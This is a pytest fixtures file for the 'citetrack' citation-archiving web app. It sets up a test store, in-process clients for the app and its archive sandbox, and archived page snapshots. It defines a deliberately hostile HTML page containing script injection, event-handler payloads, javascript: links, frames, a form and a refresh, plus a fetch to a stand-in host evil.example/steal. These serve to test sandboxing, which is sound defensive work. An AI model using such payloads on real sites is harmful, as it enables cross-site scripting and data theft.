"""Fixtures of the web app's tests: a store with documents, flags and hostile archived pages,
the app in-process (Starlette's TestClient) and its archive origin."""

from __future__ import annotations

import datetime as dt
import io
import warnings
from pathlib import Path
from typing import Any

import pytest

REPO = Path(__file__).resolve().parents[2]
EXAMPLE = REPO / "examples" / "river-delta-brief.txt"
TOKEN = "test-token-1234"
APP_PORT, SANDBOX_PORT = 8750, 8751
# An archived page that tries everything: scripts, handlers, javascript: links, frames, forms, refresh.
HOSTILE_PAGE = b"""<!doctype html><html><head><title>Wells of the valley</title>
<meta http-equiv="refresh" content="0;url=http://evil.example/">
<script>document.title = "PWNED"; fetch("http://evil.example/steal");</script>
<base href="http://evil.example/"></head>
<body onload="document.body.innerHTML='PWNED'"><h1>Wells of the valley</h1>
<p>Surveyors counted forty wells across the valley this winter.</p>
<img src="x" onerror="document.body.innerHTML='PWNED'">
<a href="javascript:document.body.innerHTML='PWNED'">click</a>
<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/x.swf"></object>
<form action="http://evil.example/post"><input name="q"></form>
<svg><script>document.body.innerHTML='PWNED'</script></svg>
</body></html>"""
CALMER_PAGE = b"""<!doctype html><html><head><title>Wells of the valley</title></head><body>
<h1>Wells of the valley</h1><p>Surveyors counted fifty wells across the valley this winter.</p>
<p>A new paragraph was added.</p></body></html>"""


def add_snapshot(store, url: str, body: bytes, when: dt.datetime, text: str) -> int:
    """Archive `body` as the page of `url` (a real WARC record) and record the snapshot; its id."""
    from citetrack.archive.warc import Exchange, append_exchange
    from citetrack.store.archive import save_snapshot

    url_id = store.query("SELECT id FROM urls WHERE url = ?", [url])[0]["id"]
    exchange = Exchange(url, 200, "OK", (("Content-Type", "text/html; charset=utf-8"),), fetched_at=when)
    ref = append_exchange(store.archive_dir, exchange, io.BytesIO(body), len(body))
    stamp = when.isoformat(timespec="seconds")
    return save_snapshot(store, {
        "url_id": url_id, "fetched_at": stamp, "last_seen_at": stamp, "final_url": url, "warc_file": ref.warc_file,
        "warc_offset": ref.offset, "warc_length": ref.length, "http_status": 200, "content_type": "text/html",
        "sha256": str(hash(body)), "size": len(body), "kind": "html", "title": "Wells of the valley", "text": text,
    })


@pytest.fixture
def filled(store, fill) -> dict[str, Any]:
    """The invented document of tests/export/fill.py (hostile text included), plus two real
    snapshots of its first source: the hostile page, then a calmer later one."""
    ids = fill.populate(store)
    valley = "https://valley.example/2023/01/12/wells"
    ids["hostile_snapshot"] = add_snapshot(
        store, valley, HOSTILE_PAGE, dt.datetime(2024, 3, 4, tzinfo=dt.timezone.utc),
        "Wells of the valley. Surveyors counted forty wells across the valley this winter.")
    ids["later_snapshot"] = add_snapshot(
        store, valley, CALMER_PAGE, dt.datetime(2024, 4, 4, tzinfo=dt.timezone.utc),
        "Wells of the valley. Surveyors counted fifty wells across the valley this winter. A new paragraph was added.")
    return ids


def _client(app):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # starlette names a successor of httpx; httpx works
        from starlette.testclient import TestClient

        return TestClient(app, base_url=f"http://127.0.0.1:{APP_PORT}")


@pytest.fixture
def web(store):
    """The app over the test store, in-process; requests come from http://127.0.0.1:8750."""
    from citetrack.web.app import AppConfig, create_app

    return _client(create_app(store, AppConfig(token=TOKEN, sandbox_port=SANDBOX_PORT)))


@pytest.fixture
def sandbox(store):
    """The archive origin over the test store, in-process."""
    from citetrack.web.app import LOOPBACK_HOSTS
    from citetrack.web.sandbox import create_sandbox_app

    app = create_sandbox_app(store, f"http://127.0.0.1:{APP_PORT}", LOOPBACK_HOSTS)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        from starlette.testclient import TestClient

        return TestClient(app, base_url=f"http://127.0.0.1:{SANDBOX_PORT}")


@pytest.fixture
def auth() -> dict[str, str]:
    return {"X-Citetrack-Token": TOKEN}


@pytest.fixture
def make_client():
    """`make_client(app)`: a TestClient for any app of this package (requests from 127.0.0.1:8750)."""
    return _client


@pytest.fixture
def snapshot_adder():
    """`add(store, url, body, when, text)`: archive a page as a real WARC record with its snapshot row."""
    return add_snapshot


@pytest.fixture
def web_consts() -> dict[str, Any]:
    return {"token": TOKEN, "sandbox_port": SANDBOX_PORT, "app_port": APP_PORT, "example": EXAMPLE}
